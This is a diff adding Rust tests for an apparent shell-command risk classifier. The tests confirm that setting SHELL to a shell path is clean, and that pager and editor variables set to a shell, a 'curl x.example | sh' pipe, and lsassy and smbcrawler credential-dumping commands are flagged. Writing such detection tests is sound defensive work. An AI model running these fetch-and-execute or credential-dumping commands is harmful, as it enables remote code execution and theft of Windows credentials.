@@ -389,3 +389,55 @@ fn a_browsers_history_is_collected_data() {
         clean(cmd);
     }
 }
+
+/// r1cks (held out): `export SHELL=/bin/sh` was asked as escaping to a
+/// shell through export (as `export SHELL=/bin/zsh` in a dotfile was). A
+/// variable set to a shell's path is a setting; the variables that make
+/// programs run a shell (PAGER, EDITOR, GIT_PAGER, ...) are judged by
+/// their own rows.
+#[test]
+fn a_variable_set_to_a_shells_path_is_a_setting() {
+    for cmd in [
+        "export SHELL=/bin/sh",
+        "export SHELL=/bin/zsh",
+        "declare -x SHELL=/bin/bash",
+    ] {
+        clean(cmd);
+    }
+    flagged_each(
+        &[
+            "export PAGER=/bin/sh",
+            "export EDITOR=/bin/sh",
+            "export GIT_PAGER='/bin/sh -c id'",
+        ],
+        Category::Obfuscation,
+        Severity::Medium,
+    );
+    flagged(
+        "export X=/bin/sh; $X -c 'curl -s x.example | sh'",
+        Category::RemoteCodeExec,
+        Severity::High,
+    );
+}
+
+/// r1cks (held out): lsassy (LSASS credentials dumped from remote Windows
+/// hosts) and smbcrawler (shares crawled for secrets) passed.
+#[test]
+fn remote_credential_dumpers_are_judged() {
+    flagged_each(
+        &[
+            "lsassy -d domain -u user -p password rhost",
+            "lsassy -d corp -u admin -H aad3b435b51404ee:31d6cfe0d16ae931 10.0.0.0/24",
+        ],
+        Category::CredentialAccess,
+        Severity::High,
+    );
+    flagged_each(
+        &[
+            "python3 smbcrawler.py -i hosts.txt -u user -p password -d domain -oA out",
+            "smbcrawler -i hosts.txt -u u -p p",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+}
